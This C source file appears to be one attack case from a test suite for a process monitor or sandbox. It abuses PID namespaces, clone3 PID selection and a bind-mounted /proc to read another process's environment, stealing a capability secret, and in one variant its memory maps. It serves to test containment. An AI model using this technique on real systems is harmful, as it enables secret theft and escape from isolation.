/* attack
class: file
may-be-closed: true
expect: { none: contained, mpk: contained }
variants:
  - { args: [environ], aim: call, tries: "the capability from the environment of a program that begins, by a process of the same number in a namespace of its own" }
  - { args: [bound], aim: call, tries: "the same, with /proc bound to a folder whose name is one's own number" }
  - { args: [maps], aim: memory, tries: "/proc/PID/maps of another process, by one of the same number in a namespace of its own" }
*/
/* In a namespace of its own a process may choose its number, that of another process outside, too. /proc still shows those outside under the
   numbers that they have there: what it shows under one's own number is then not about oneself. The same where a folder has that number as its name (`bound`), in which /proc is mounted. */
#include "attack.h"
#include <linux/sched.h>
#include <sys/mount.h>
#include <sys/prctl.h>

/* A child that has our number, in a namespace in which nobody else does; for the child 0. */
static pid_t namesake(void) {
    char map[32];
    pid_t self = getpid();
    int bytes = snprintf(map, sizeof map, "0 %d 1", geteuid());
    if (unshare(CLONE_NEWUSER | CLONE_NEWPID)) not_here("no user namespaces here");
    /* Known there, it keeps its rights across an exec, and may look at its like. */
    int users = open("/proc/self/uid_map", O_WRONLY);
    if (write(users, map, (size_t)bytes) != bytes) not_here("no user namespaces here");
    close(users);
    pid_t first = fork();
    if (first == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        for (;;) pause();
    }
    struct clone_args args = {.exit_signal = SIGCHLD, .set_tid = (uintptr_t)&self, .set_tid_size = 1};
    pid_t child = (pid_t)syscall(SYS_clone3, &args, sizeof args);
    if (child < 0) {
        kill(first, SIGKILL);
        not_here("a process may not choose its number here");
    }
    return child;
}

/* A child that finds its number before ours in the path to what /proc shows of us; for the child 0. */
static pid_t bound(char *path, size_t size) {
    pid_t self = getpid(), child = fork();
    if (child != 0) return child;
    if (unshare(CLONE_NEWNS | (geteuid() ? CLONE_NEWUSER : 0)) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)) _exit(77);
    mkdir("1", 0755);
    snprintf(path, size, "1/%d", getpid());
    mkdir(path, 0755);
    if (mount("/proc", path, NULL, MS_BIND | MS_REC, NULL)) _exit(77);
    snprintf(path, size, "1/%d/%d/environ", getpid(), self);
    return 0;
}

/* Anything but the name of a variable and zeros behind it is the secret. */
static unsigned long told_by(const char *path) {
    static char all[1 << 16];
    static const char name[] = "MONGUARD_CAPABILITY=";
    int fd = open(path, O_RDONLY);
    ssize_t have = fd < 0 ? -1 : read(fd, all, sizeof all - 1);
    if (fd >= 0) close(fd);
    for (ssize_t i = 0; i + (ssize_t)sizeof name < have; i++)
        if (memcmp(all + i, name, sizeof name - 1) == 0 && all[i + (ssize_t)sizeof name - 1]) return strtoul(all + i + sizeof name - 1, NULL, 16);
    return 0;
}

static int shows(pid_t pid, uintptr_t wanted) {
    char path[64], line[512];
    int found = 0;
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *maps = fopen(path, "r");
    uintptr_t from, to;
    while (maps && fgets(line, sizeof line, maps)) found |= sscanf(line, "%lx-%lx", &from, &to) == 2 && from <= wanted && wanted < to;
    if (maps) fclose(maps);
    return found;
}

int main(int argc, char **argv) {
    const char *how = argc > 1 ? argv[1] : "";
    char path[64], number[32];
    pid_t self = getpid(), child;
    if (strcmp(how, "look") == 0) _exit(shows(atoi(argv[2]), strtoul(argv[3], NULL, 16)) ? 3 : 0);
    if (strcmp(how, "again") == 0) {
        int left = atoi(argv[2]);
        child = atoi(argv[3]);
        snprintf(number, sizeof number, "%d", left - 1);
        if (left > 1 && waitpid(child, NULL, WNOHANG) == 0) execl("/proc/self/exe", argv[0], "again", number, argv[3], NULL);
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
        verdict_of_folder();
    }
    if (strcmp(how, "maps") == 0) {
        struct target t[64];
        int n = read_targets(t, 64);
        snprintf(number, sizeof number, "%lx", t[n - 1].from);
        child = namesake();
        if (child == 0) {
            snprintf(path, sizeof path, "%d", self);
            execl("/proc/self/exe", argv[0], "look", path, number, NULL); /* with a monitor somewhere else */
            _exit(1);
        }
        int status;
        waitpid(child, &status, 0);
        errno = 0;
        verdict(WIFEXITED(status) && WEXITSTATUS(status) == 3);
    }
    snprintf(path, sizeof path, "/proc/%d/environ", self);
    child = strcmp(how, "bound") == 0 ? bound(path, sizeof path) : namesake();
    if (child == 0) {
        unsigned long capability = 0;
        alarm(120);
        for (int tries = 0; !capability && tries < 20000; tries++) capability = told_by(path);
        if (capability) printf("read %lx\n", capability), fflush(stdout);
        tries_with(capability);
        _exit(0);
    }
    snprintf(number, sizeof number, "%d", child);
    execl("/proc/self/exe", argv[0], "again", "150", number, NULL);
    return 1;
}
